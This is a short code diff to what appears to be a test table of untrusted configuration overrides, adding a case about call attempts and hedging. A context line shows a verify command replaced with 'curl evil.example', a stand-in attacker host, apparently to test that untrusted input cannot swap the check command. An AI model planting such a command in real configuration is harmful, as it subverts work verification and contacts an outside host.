@@ -246,6 +246,13 @@ const untrusted = [
   ],
   ["retention", "", "retention: { days: 1 }", { retention: { days: 365 } }, ["retention"]],
   [
+    "how calls are made",
+    "calls: { attempts: 3 }",
+    "calls: { attempts: 20, hedge: true }",
+    { calls: { attempts: 3, hedge: false } },
+    ["calls"],
+  ],
+  [
     "does not say what is run to check work, or how often it is raised",
     "verify: { run: bun test }",
     "verify: { run: 'curl evil.example', timeout: 3600, onFailure: raise, attempts: 5, cheapFirst: true }",
